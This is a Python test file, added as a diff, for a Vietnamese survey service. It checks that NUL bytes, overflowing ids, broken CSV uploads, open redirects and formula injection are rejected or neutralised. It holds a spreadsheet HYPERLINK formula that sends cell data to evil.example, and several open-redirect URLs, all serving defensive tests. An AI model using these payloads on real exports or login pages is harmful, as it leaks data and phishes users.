@@ -1,0 +1,276 @@
+"""Hostile and odd input that once gave a server error or did something unsafe, on both databases: NUL
+characters, overflowing ids and pages, broken CSV files, open redirects after login, changes to a closed
+round, formula injection in exports, the headers of errors and downloads."""
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import date, timedelta
+
+import openpyxl
+import pandas as pd
+import pytest
+import sqlalchemy as sa
+
+from survey_service.models import Agency, AuditEvent, Draft, Response, Sheet, SheetState
+from survey_service.services import imports, invitations, keying, rounds, sheets, tabular
+from survey_service.web import NUL_MESSAGE, safe_next
+from tests.conftest import collect_from_today, csrf_token_from
+from tests.results.conftest import Builder, csv_bytes
+
+
+def count(session, model) -> int:
+    return session.scalar(sa.select(sa.func.count()).select_from(model))
+
+
+def form_of(html: str) -> tuple[str, dict[str, str]]:
+    """The action and hidden fields of the page's questionnaire form."""
+    action = re.search(r'<form method="post" action="([^"]+)" class="questionnaire"', html).group(1)
+    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html))
+    return action, hidden
+
+
+# --- NUL ---------------------------------------------------------------------------------------------
+def test_nul_in_a_respondents_answer_is_a_400_in_vietnamese_and_nothing_is_stored(
+        app, client, loaded_round, session):
+    collect_from_today(session, loaded_round)
+    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
+    [code] = [c.code for c in invitations.issue_codes(session, cell, 1, actor="test").codes]
+    session.commit()
+    page = client.get(f"/c/{code}", follow_redirects=True)
+    action, hidden = form_of(page.get_data(as_text=True))
+    questionnaire = rounds.questionnaire_for(session, loaded_round, "CC-CT")
+    answers = {i.code: ("3" if i.kind == "scale" else "Cần\x00 nhanh hơn") for i in questionnaire.items}
+    for step in ("save", "submit"):
+        answer = client.post(action, data={**hidden, **answers, "action": step})
+        assert answer.status_code == 400 and "NUL" in answer.get_data(as_text=True), step
+    assert count(session, Response) == 0
+    assert all("\x00" not in str(d.answers) for d in session.scalars(sa.select(Draft)))
+
+
+@pytest.mark.parametrize("path", ["/staff/codes/?round=%00", "/staff/admin/audit?action=a%00",
+                                  "/paper/ledger?form=%00", "/staff/results/%00/", "/c/%00",
+                                  "/api/v1/rounds/%00/quotas"])
+def test_nul_in_a_path_or_query_is_a_400_for_anyone(app, loaded_round, client, make_user, auth, path):
+    make_user("admin", username="quantri")
+    for logged_in in (False, True):
+        if logged_in:
+            auth.login("quantri")
+        answer = client.get(path)
+        assert answer.status_code == 400, (path, logged_in)
+        if path.startswith("/api/"):
+            assert answer.get_json()["message"] == NUL_MESSAGE
+        else:
+            assert NUL_MESSAGE in answer.get_data(as_text=True)
+
+
+def test_nul_in_the_login_form_is_a_400(app, client, make_user, session):
+    make_user("admin", username="quantri")
+    for data in ({"username": "quantri\x00", "password": "x"}, {"username": "quantri", "password": "\x00" * 10}):
+        answer = client.post("/staff/login", data=data)
+        assert answer.status_code == 400 and "NUL" in answer.get_data(as_text=True)
+    assert client.post("/", data={"code": "ABCD\x00"}).status_code == 400
+
+
+# --- ids, pages and CSV files that overflowed ----------------------------------------------------------
+def test_revoke_with_an_overflowing_or_unicode_digit_id_is_a_400(app, loaded_round, session, staff_client):
+    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
+    batch = invitations.issue_codes(session, cell, 2, actor="test")
+    session.commit()
+    client = staff_client("supervisor")
+    for bad in ("99999999999999999999", "²", "-1", "0", " 1"):
+        answer = client.post(f"/staff/codes/batches/{batch.id}/revoke", data={"code_id": bad})
+        assert answer.status_code == 400, bad
+        assert "Vui lòng chọn" in answer.get_data(as_text=True)
+    good = client.post(f"/staff/codes/batches/{batch.id}/revoke",
+                       data={"code_id": str(batch.codes[0].id), "confirmed": "1"})
+    assert good.status_code == 303
+
+
+def test_audit_page_past_the_end_shows_the_last_page(app, staff_client):
+    client = staff_client("admin")
+    for page in ("999999999999999999", "-5", "99999999999999999999999999"):
+        answer = client.get(f"/staff/admin/audit?page={page}")
+        assert answer.status_code == 200, page
+        assert "user.create" in answer.get_data(as_text=True)
+
+
+def plan_upload(client, rnd, body: bytes):
+    return client.post(f"/staff/dashboard/{rnd.code}/quotas/import",
+                       data={"file": (io.BytesIO(body), "plan.csv")}, content_type="multipart/form-data")
+
+
+def test_quota_csv_with_cr_line_endings_is_read(app, loaded_round, session, staff_client):
+    client = staff_client("supervisor")
+    body = "form_code,agency_code,target\rCC-CT,SNV,77\r".encode()
+    assert plan_upload(client, loaded_round, body).status_code == 302
+    assert invitations.find_cell(session, loaded_round, "CC-CT", "SNV").target == 77
+
+
+def test_quota_csv_with_a_huge_field_a_unicode_digit_or_many_bad_rows_is_refused_in_vietnamese(
+        app, loaded_round, session, staff_client):
+    client = staff_client("supervisor")
+    huge = plan_upload(client, loaded_round, ("form_code,agency_code,target\nCC-CT,SNV," + "9" * 140_000 + "\n").encode())
+    assert huge.status_code == 422 and "có ô dài quá 131.072 ký tự" in huge.get_data(as_text=True)
+    sup = plan_upload(client, loaded_round, "form_code,agency_code,target\nCC-CT,SNV,²\n".encode())
+    text = sup.get_data(as_text=True)
+    assert sup.status_code == 422 and "phải là số nguyên không âm" in text and "invalid literal" not in text
+    many = plan_upload(client, loaded_round, ("form_code,agency_code,target\n" + "XX,SNV,1\n" * 20_000).encode())
+    text = many.get_data(as_text=True)
+    assert many.status_code == 422 and "20000 lỗi" in text and "và 19800 lỗi khác" in text
+    assert text.count("<li>Dòng") == 200
+
+
+def test_cli_import_with_a_200k_character_field_names_the_line(app, loaded_round, runner, session, tmp_path):
+    collect_from_today(session, loaded_round)
+    builder = Builder(session, loaded_round)
+    rows = [builder.row("CC-CT", "SNV", "3"), builder.row("CC-CT", "SNV", "3", E18="x" * 200_000)]
+    path = tmp_path / "long.csv"
+    path.write_bytes(csv_bytes(rows))
+    result = runner.invoke(args=["responses", "import", "--round", "QNA-2023", str(path)])
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert "dòng 3: có ô dài quá 131.072 ký tự" in result.output
+    assert count(session, Response) == 0
+
+
+# --- open redirect -------------------------------------------------------------------------------------
+@pytest.mark.parametrize("target", ["/%09/evil.example/phish", "//evil.example", "/\\evil.example",
+                                    "https://evil.example/", "/%0a/evil.example", "/ /evil.example"])
+def test_login_never_redirects_off_the_site(app, client, make_user, target):
+    make_user("analyst", username="phantich")
+    answer = client.post(f"/staff/login?next={target}", data={"username": "phantich",
+                                                              "password": "correct-horse-battery"})
+    assert answer.status_code == 302 and answer.headers["Location"] == "/staff/"
+
+
+def test_login_keeps_a_same_site_next():
+    assert safe_next("/staff/results/QNA-2023/?kind=district") == "/staff/results/QNA-2023/?kind=district"
+    assert safe_next("/staff/\t/x") is None and safe_next("evil.example") is None and safe_next("") is None
+
+
+# --- a closed round's data ----------------------------------------------------------------------------
+def test_a_closed_rounds_sheet_is_not_keyed_until_the_round_is_reopened(app, loaded_round, session, make_user,
+                                                                          auth, client):
+    collect_from_today(session, loaded_round)
+    plans = sheets.paper_cells(session, loaded_round, form_code="LĐH-CH", agency_code="SNV")
+    sheet = sheets.issue_sheets(session, loaded_round, plans, actor="test")[0]
+    session.commit()
+    rounds.close(session, loaded_round, actor="test")
+    session.commit()
+    make_user("clerk", username="buudien")
+    auth.login("buudien")
+    form = keying.sheet_form(session, sheet)
+    data = {keying.slot_name(row.key, item.code): "3" for row in form.rows for item in form.questionnaire.scale_items}
+    keyed = client.post(f"/paper/sheets/{sheet.serial}/key", data=data)
+    assert keyed.status_code == 409 and "đã kết thúc nhận phiếu" in keyed.get_data(as_text=True)
+    assert count(session, Response) == 0 and session.get(Sheet, sheet.id).state is SheetState.ISSUED
+
+    today = rounds.local_today()
+    rounds.schedule(session, loaded_round, today - timedelta(days=1), today + timedelta(days=1), actor="test")
+    session.commit()
+    assert session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "round.schedule")) is not None
+    keyed = client.post(f"/paper/sheets/{sheet.serial}/key", data=data)
+    assert keyed.status_code in (200, 302, 303) and count(session, Response) == 1
+
+
+def test_import_refuses_a_closed_round_and_days_outside_its_window(app, loaded_round, session):
+    builder = Builder(session, loaded_round)
+    rnd = loaded_round
+    inside = rnd.opens_on + timedelta(days=1)
+    rows = [builder.row("CC-CT", "SNV", "3", submitted_on=d) for d in ("0001-01-01", "9999-12-31",
+                                                                     inside.isoformat())]
+    with pytest.raises(imports.ImportRejected) as rejected:
+        imports.import_responses(session, rnd, csv_bytes(rows), today=rnd.closes_on, actor="test")
+    assert [e.line for e in rejected.value.errors] == [2, 3]
+    assert "nằm ngoài thời gian nhận phiếu" in rejected.value.errors[0].message
+    with pytest.raises(imports.ImportRejected) as closed:
+        imports.import_responses(session, rnd, csv_bytes(rows[2:]), today=rnd.closes_on + timedelta(days=1))
+    assert "đã kết thúc nhận phiếu" in closed.value.errors[0].message
+    report = imports.import_responses(session, rnd, csv_bytes(rows[2:]), today=rnd.closes_on, actor="test")
+    assert report.responses == 1
+
+
+# --- formula injection -------------------------------------------------------------------------------
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Sở Nội vụ")'
+
+
+@pytest.fixture
+def evil_agency(loaded_round, session):
+    agency = session.scalar(sa.select(Agency).where(Agency.round_id == loaded_round.id, Agency.code == "SNV"))
+    agency.name = EVIL
+    session.commit()
+    return agency
+
+
+def csv_cells(body: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+
+
+def test_no_export_carries_a_live_formula(app, loaded_round, evil_agency, session, staff_client):
+    client = staff_client("supervisor")
+    rnd = loaded_round
+    cell = invitations.find_cell(session, rnd, "CC-CT", "SNV")
+    batch = invitations.issue_codes(session, cell, 1, actor="test")
+    session.commit()
+    for url in (f"/staff/dashboard/{rnd.code}/progress.csv", f"/staff/dashboard/{rnd.code}/quotas.csv",
+                f"/staff/codes/batches/{batch.id}.csv"):
+        body = client.get(url).data
+        assert "'" + EVIL in csv_cells(body), url
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in csv_cells(body)), url
+
+    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/staff/dashboard/{rnd.code}/progress.xlsx").data))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == EVIL]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+    builder = Builder(session, rnd)
+    builder.load([builder.row("CC-CT", "SNV", v) for v in "12345"])
+    for fmt in ("xlsx", "csv"):
+        body = client.get(f"/staff/results/{rnd.code}/download.{fmt}").data
+        if fmt == "csv":
+            data_cells = csv_cells(b"\n".join(l for l in body.splitlines() if not l.startswith(b"#")))
+            assert "'" + EVIL in data_cells
+        else:
+            book = openpyxl.load_workbook(io.BytesIO(body))
+            cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value == EVIL]
+            assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_csv_frame_neutralises_text_and_categories_but_not_numbers():
+    frame = pd.DataFrame({"text": ["-Cần =SUM(A1:A9)", "ổn", None], "n": [-1.5, 2.0, 3.0],
+                          "code": pd.Categorical(["@x", "SNV", "@x"]), "mixed": [1, "+1", None]})
+    out = tabular.csv_frame(frame)
+    assert out["text"].tolist()[:2] == ["'-Cần =SUM(A1:A9)", "ổn"] and out["n"].tolist() == [-1.5, 2.0, 3.0]
+    assert out["code"].tolist() == ["'@x", "SNV", "'@x"] and out["mixed"].tolist()[:2] == [1, "'+1"]
+
+
+# --- headers -----------------------------------------------------------------------------------------
+def test_405_keeps_the_allow_header(app, client, make_user, session):
+    from survey_service.services import users
+
+    user = make_user("analyst")
+    token = users.issue_api_token(session, user)
+    session.commit()
+    for url, headers in (("/api/v1/rounds/QNA-2023/quotas", {"Authorization": f"Bearer {token}"}),
+                         ("/staff/logout", {})):
+        answer = client.delete(url, headers=headers)
+        assert answer.status_code == 405 and answer.headers.get("Allow"), url
+
+
+def test_openapi_declares_the_form_codes(app, client):
+    doc = client.get("/api/v1/openapi.json").get_json()
+    [form] = [p for p in doc["paths"]["/rounds/{round}/quotas"]["get"]["parameters"] if p["name"] == "form"]
+    assert form["schema"]["enum"] == ["CC-CT", "CC-ND", "CC-CH", "LĐ-CP", "LĐX-CH", "HĐ-CT", "LĐH-CH", "LĐS-CT"]
+
+
+def test_exports_are_not_cached_and_https_gets_hsts(app, loaded_round, session, staff_client):
+    client = staff_client("supervisor")
+    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
+    batch = invitations.issue_codes(session, cell, 1, actor="test")
+    session.commit()
+    for url in (f"/staff/codes/batches/{batch.id}.csv", f"/staff/codes/batches/{batch.id}.pdf",
+                f"/staff/dashboard/{loaded_round.code}/progress.xlsx", f"/staff/results/{loaded_round.code}/download.csv"):
+        answer = client.get(url)
+        assert answer.status_code == 200 and answer.headers["Cache-Control"] == "no-store", url
+    assert "Strict-Transport-Security" not in client.get("/").headers
+    assert client.get("/", base_url="https://localhost").headers["Strict-Transport-Security"].startswith("max-age=")
